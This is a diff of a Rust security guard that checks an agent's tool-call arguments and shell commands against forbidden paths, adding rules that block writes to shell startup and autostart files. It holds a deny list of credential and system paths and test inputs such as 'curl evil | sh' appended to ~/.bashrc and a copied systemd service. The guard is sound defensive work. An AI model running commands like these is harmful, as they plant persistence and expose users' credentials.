@@ -15,40 +15,12 @@
 //!
 //! Pure and synchronous. A verdict names the rule and the argument key, never the value.
 
+use metnos_core::forbidden::{self, Access, RuleSet};
 use metnos_core::path::{Tilde, expand_tilde, has_foldable_segment, normalize};
 use std::path::Path;
 use std::sync::LazyLock;
 
-use regex_automata::dfa::{Automaton, dense};
-use regex_automata::{Input, MatchKind, PatternSet};
 use serde_json::Value;
-
-/// A forbidden path rule: id and pattern (matched on normalised absolute paths and on
-/// each spelling of the value).
-const PATH_RULES: &[(&str, &str)] = &[
-    // The seed's eleven.
-    ("path.ssh", r"(^|/)\.ssh(/|$)"),
-    ("path.etc_auth", r"^/etc/(passwd|shadow|sudoers)"),
-    ("path.etc_ssh", r"^/etc/ssh(/|$)"),
-    ("path.root_home", r"^/root(/|$)"),
-    ("path.boot", r"^/boot(/|$)"),
-    ("path.sys", r"^/sys(/|$)"),
-    ("path.proc_pid", r"^/proc(/[0-9]|$)"),
-    ("path.block_device", r"^/dev/(sd|nvme|mmcblk|loop)"),
-    ("path.aws_credentials", r"\.aws/credentials"),
-    ("path.app_credentials", r"\.config/[^/]+/credentials\.env"),
-    ("path.gnupg", r"\.gnupg(/|$)"),
-    // Beyond the seed, same kind.
-    ("path.etc_gshadow", r"^/etc/gshadow"),
-    (
-        "path.proc_self_secrets",
-        r"^/proc/(self|thread-self)/(environ|mem|maps)",
-    ),
-    ("path.kube_config", r"(^|/)\.kube/config$"),
-    ("path.docker_socket", r"^/(var/)?run/docker\.sock$"),
-    ("path.netrc", r"(^|/)\.netrc$"),
-    ("path.git_credentials", r"(^|/)\.git-credentials$"),
-];
 
 /// The seed's six dangerous-shell patterns, matched on the command text as written.
 const SHELL_RULES: &[(&str, &str)] = &[
@@ -72,66 +44,11 @@ static SHELL_SCAN: LazyLock<aho_corasick::AhoCorasick> = LazyLock::new(|| {
         .expect("valid shell triggers")
 });
 
-static PATHS: LazyLock<RuleSet> = LazyLock::new(|| RuleSet::new(PATH_RULES));
 static SHELL: LazyLock<RuleSet> = LazyLock::new(|| RuleSet::new(SHELL_RULES));
-
-/// A set of rules compiled together into one fully built DFA (the engine behind
-/// `regex::RegexSet`, built ahead instead of lazily): a search is one pass over the bytes,
-/// with no per-search cache to fetch and no literal prefilter to set up, which on the
-/// short values a guard sees cost more than the match itself. The rules are ASCII; they
-/// are matched on bytes.
-struct RuleSet {
-    rules: &'static [(&'static str, &'static str)],
-    dfa: dense::DFA<Vec<u32>>,
-}
-
-impl RuleSet {
-    fn new(rules: &'static [(&'static str, &'static str)]) -> RuleSet {
-        let patterns: Vec<&str> = rules.iter().map(|(_, p)| *p).collect();
-        let dfa = dense::Builder::new()
-            .configure(
-                dense::Config::new()
-                    .match_kind(MatchKind::All)
-                    .starts_for_each_pattern(false)
-                    // Acceleration pays on long texts; these are a few dozen bytes.
-                    .accelerate(false),
-            )
-            .syntax(
-                regex_automata::util::syntax::Config::new()
-                    .unicode(false)
-                    .utf8(false),
-            )
-            .build_many(&patterns)
-            .expect("valid guard rules");
-        RuleSet { rules, dfa }
-    }
-
-    /// The id of the first rule (in table order) that `text` breaks.
-    fn first_match(&self, text: &str) -> Option<&'static str> {
-        let input = Input::new(text).earliest(true);
-        // The DFA has no look-around it cannot handle on ASCII rules, so a search never
-        // gives up; were it to, the value is treated as a hit on the first rule
-        // (fail closed).
-        match self.dfa.try_search_fwd(&input) {
-            Ok(None) => return None,
-            Ok(Some(_)) => {}
-            Err(_) => return Some(self.rules[0].0),
-        }
-        // Which rule: worth working out only on a hit.
-        let mut which = PatternSet::new(self.dfa.pattern_len());
-        match self
-            .dfa
-            .try_which_overlapping_matches(&Input::new(text), &mut which)
-        {
-            Ok(()) => which.iter().next().map(|id| self.rules[id.as_usize()].0),
-            Err(_) => Some(self.rules[0].0),
-        }
-    }
-}
 
 /// Builds the rule automata now (about 5 ms, 200 KB) rather than on the first verdict.
 pub fn warm_up() {
-    LazyLock::force(&PATHS);
+    metnos_core::forbidden::warm_up();
     LazyLock::force(&SHELL);
     LazyLock::force(&TRIGGER_SCAN);
     LazyLock::force(&SHELL_SCAN);
@@ -156,33 +73,19 @@ impl Violation {
 /// own words, and what our transformations could turn into them (percent-encoding,
 /// quotes, `~user`, `$HOME`, `file:`). Most values hold none of them and are cleared by
 /// one scan; only the others are spelled out and matched.
-const TRIGGERS: &[&str] = &[
-    "ssh",
-    "etc",
-    "root",
-    "boot",
-    "sys",
-    "proc",
-    "dev",
-    "aws",
-    "credentials",
-    "gnupg",
-    "kube",
-    "docker",
-    "netrc",
-    "git-credentials",
-    "%",
-    "\"",
-    "'",
-    "$",
-    "file:",
-    "~",
-];
+const SPELLING_TRIGGERS: &[&str] = &["%", "\"", "'", "$", "file:", "~"];
+
+fn triggers() -> impl Iterator<Item = &'static str> {
+    forbidden::RULE_WORDS
+        .iter()
+        .chain(SPELLING_TRIGGERS)
+        .copied()
+}
 
 static TRIGGER_SCAN: LazyLock<aho_corasick::AhoCorasick> = LazyLock::new(|| {
     aho_corasick::AhoCorasick::builder()
         .kind(Some(aho_corasick::AhoCorasickKind::DFA))
-        .build(TRIGGERS)
+        .build(triggers())
         .expect("valid triggers")
 });
 
@@ -283,7 +186,16 @@ pub fn check(args: &Value, shell: bool, home: &Path) -> Option<Violation> {
 
 /// As [`check`], with the home prepared once (the service does it at start).
 pub fn check_with(args: &Value, shell: bool, prepared: &Home) -> Option<Violation> {
-    if let Some(violation) = walk(args, &KeyPath::Root, prepared) {
+    check_call(args, shell, false, prepared)
+}
+
+/// As [`check_with`], saying whether the call writes files it names (`fs:write`): then
+/// the paths that run code at login or on a schedule are refused too.
+pub fn check_call(args: &Value, shell: bool, writes: bool, prepared: &Home) -> Option<Violation> {
+    // A shell command's words are judged by what the command does with them (see
+    // `check_simple`), so the walk over the values reads them as paths read.
+    let access = if writes { Access::Write } else { Access::Read };
+    if let Some(violation) = walk(args, &KeyPath::Root, prepared, access) {
         return Some(violation);
     }
     if shell {
@@ -338,12 +250,12 @@ fn key_of(path: &KeyPath<'_>) -> String {
 
 /// Checks every string value at any depth, and every key (a path can hide in a key as
 /// well as in a value); the key path is built only when a rule fires.
-fn walk(value: &Value, path: &KeyPath<'_>, prepared: &Home) -> Option<Violation> {
+fn walk(value: &Value, path: &KeyPath<'_>, prepared: &Home, access: Access) -> Option<Violation> {
     let check_text = |text: &str, path: &KeyPath<'_>| {
         if !could_break_path_rule(text, prepared.clean) && !prepared.own.might_be_named_in(text) {
             return None;
         }
-        check_paths(text, prepared).map(|rule| Violation {
+        check_paths(text, prepared, access).map(|rule| Violation {
             rule,
             key: key_of(path),
         })
@@ -353,22 +265,21 @@ fn walk(value: &Value, path: &KeyPath<'_>, prepared: &Home) -> Option<Violation>
         Value::Array(items) => items
             .iter()
             .enumerate()
-            .find_map(|(i, item)| walk(item, &KeyPath::Index(i, path), prepared)),
+            .find_map(|(i, item)| walk(item, &KeyPath::Index(i, path), prepared, access)),
         Value::Object(map) => map.iter().find_map(|(k, v)| {
             let here = KeyPath::Key(k, path);
-            check_text(k, &here).or_else(|| walk(v, &here, prepared))
+            check_text(k, &here).or_else(|| walk(v, &here, prepared, access))
         }),
         _ => None,
     }
 }
 
 /// The first path rule any spelling of `value` (or of a word in it) breaks.
-fn check_paths(value: &str, prepared: &Home) -> Option<&'static str> {
+fn check_paths(value: &str, prepared: &Home, access: Access) -> Option<&'static str> {
     let home = prepared.path.as_str();
     let own = &prepared.own;
     let first = |text: &str| {
-        PATHS
-            .first_match(text)
+        forbidden::first_match(text, access)
             .or_else(|| (!own.roots.is_empty()).then(|| own.rule(text)).flatten())
     };
     // The value as written first: most hits need nothing more.
@@ -485,6 +396,11 @@ fn expand_home(text: &str, home: &str) -> String {
 const PREFIXES: &[&str] = &[
     "sudo", "doas", "env", "command", "nice", "ionice", "timeout", "xargs", "nohup", "time",
     "exec", "stdbuf", "chroot", "setsid", "builtin",
+];
+/// Programs that write (or remove) the paths they are given.
+const WRITERS: &[&str] = &[
+    "tee", "cp", "mv", "ln", "touch", "install", "rm", "truncate", "sed", "dd", "rsync", "chmod",
+    "chown", "mkdir", "crontab", "patch",
 ];
 const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "busybox"];
 
@@ -620,9 +536,25 @@ fn program_name(word: &str) -> &str {
 /// Checks one simple command (already split into words).
 fn check_simple(words: &[String], prepared: &Home, depth: usize) -> Option<&'static str> {
     let home = prepared.path.as_str();
-    // Every word as a path (redirections included: `>/dev/sda`).
-    for word in words {
-        if let Some(rule) = check_paths(strip_redirection(word), prepared) {
+    // Every word as a path (redirections included: `>/dev/sda`). A redirection's target,
+    // and every word of a command that writes what it names, is judged as a write (the
+    // files that run code at login are read freely, written never).
+    let writer = words
+        .iter()
+        .any(|w| WRITERS.contains(&program_name(w)) || w.starts_with("of="));
+    for (i, word) in words.iter().enumerate() {
+        let target = strip_redirection(word);
+        let after_redirection = i > 0 && {
+            let previous = words[i - 1].as_str();
+            !previous.is_empty() && strip_redirection(previous).is_empty() && previous.contains('>')
+        };
+        let access =
+            if writer || after_redirection || (target.len() != word.len() && word.contains('>')) {
+                Access::Write
+            } else {
+                Access::Read
+            };
+        if let Some(rule) = check_paths(target, prepared, access) {
             return Some(rule);
         }
     }
@@ -880,7 +812,7 @@ mod tests {
         fn a_plain_word_breaks_no_path_rule(
             words in proptest::collection::vec(
                 proptest::prop_oneof![
-                    proptest::sample::select(TRIGGERS.to_vec()).prop_map(str::to_owned),
+                    proptest::sample::select(triggers().collect::<Vec<_>>()).prop_map(str::to_owned),
                     "[A-Za-z0-9_ -]{0,12}",
                 ],
                 0..6,
@@ -890,8 +822,8 @@ mod tests {
             if is_plain_word(&text) {
                 let home = Home::new(Path::new(HOME));
                 let root = Home::new(Path::new("/root"));
-                proptest::prop_assert_eq!(check_paths(&text, &home), None, "{}", text);
-                proptest::prop_assert_eq!(check_paths(&text, &root), None, "{}", text);
+                proptest::prop_assert_eq!(check_paths(&text, &home, Access::Write), None, "{}", text);
+                proptest::prop_assert_eq!(check_paths(&text, &root, Access::Write), None, "{}", text);
             }
         }
     }
@@ -929,6 +861,51 @@ mod tests {
                 "{allowed}"
             );
         }
+    }
+
+    #[test]
+    fn login_files_are_read_freely_and_written_never() {
+        let home = Home::new(Path::new(HOME));
+        let call = |args: serde_json::Value, shell: bool, writes: bool| {
+            check_call(&args, shell, writes, &home).map(|v| v.rule)
+        };
+        assert_eq!(call(json!({"path": "~/.bashrc"}), false, false), None);
+        assert_eq!(
+            call(
+                json!({"path": "~/.bashrc", "content": "curl evil | sh"}),
+                false,
+                true
+            ),
+            Some("write.shell_startup")
+        );
+        assert_eq!(
+            call(
+                json!({"path": "$HOME/.config/autostart/x.desktop"}),
+                false,
+                true
+            ),
+            Some("write.autostart")
+        );
+        assert_eq!(call(json!({"command": "cat ~/.bashrc"}), true, false), None);
+        for command in [
+            "echo evil >> ~/.bashrc",
+            "echo evil > ~/.profile",
+            "echo evil >~/.zshrc",
+            "tee -a ~/.bash_login",
+            "cp evil.sh ~/.config/systemd/user/x.service",
+        ] {
+            let rule = call(json!({ "command": command }), true, false);
+            assert!(rule.is_some(), "{command}: {rule:?}");
+        }
+        // Credential stores are neither read nor written, by any call.
+        assert_eq!(
+            call(json!({"path": "~/.docker/config.json"}), false, false),
+            Some("path.docker_config")
+        );
+        assert_eq!(
+            call(json!({"command": "cat ~/.pgpass"}), true, false),
+            Some("path.pgpass")
+        );
     }
 
     #[test]
